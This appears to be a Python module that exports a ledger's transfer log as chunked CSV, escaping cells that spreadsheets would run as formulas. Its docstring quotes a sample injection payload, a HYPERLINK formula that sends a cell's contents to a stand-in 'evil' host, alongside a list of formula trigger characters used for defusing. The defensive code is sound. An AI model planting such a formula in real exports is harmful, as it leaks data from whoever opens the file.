"""The transfer log as CSV, in chunks, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return) as a formula: a reason or key such as
``=HYPERLINK("http://evil/?"&A1)`` would run on the admin's machine. ``defuse`` puts a
``'`` in front of such a cell, which spreadsheets show as text and never run (OWASP's
advice on CSV injection). The ledger writes no negative numbers (amounts are positive),
so every text cell can be defused without mangling a figure.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from typing import Iterator

from .core import Ledger
from .records import CSV_COLUMNS, transfer_to_dict

#: What a cell may not start with (OWASP: formula triggers, plus tab and carriage return).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defuse(cell: str) -> str:
    """``cell`` that no spreadsheet runs as a formula: ``'`` in front of a formula's start."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def csv_row(record: dict) -> list:
    """One transfer record (``records.transfer_to_dict``) as CSV cells, every text defused."""
    cells = []
    for column in CSV_COLUMNS:
        value = record.get(column)
        if column == "metadata":
            value = json.dumps(value, sort_keys=True) if value else ""
        if value is None:
            value = ""
        cells.append(defuse(value) if isinstance(value, str) else value)
    return cells


def csv_chunks(ledger: Ledger, *, since: datetime | None = None, until: datetime | None = None,
               batch: int = 1000) -> Iterator[str]:
    """The transfers made at or after ``since`` and before ``until`` as CSV text, oldest first.

    The header is the first chunk; then each chunk holds ``batch`` transfers (the last
    fewer), read from one snapshot a batch at a time, so a handler writes and flushes one
    chunk while the next is read and memory stays flat however long the log is.
    """
    if isinstance(batch, bool) or not isinstance(batch, int) or batch < 1:
        raise ValueError("batch must be a whole number of at least 1")
    buffer = io.StringIO()
    writer = csv.writer(buffer)

    def take() -> str:
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text

    writer.writerow(CSV_COLUMNS)
    yield take()
    rows = 0
    for transfer in ledger.transfers(since=since, until=until, batch=batch):
        writer.writerow(csv_row(transfer_to_dict(transfer)))
        rows += 1
        if rows == batch:
            yield take()
            rows = 0
    if rows:
        yield take()
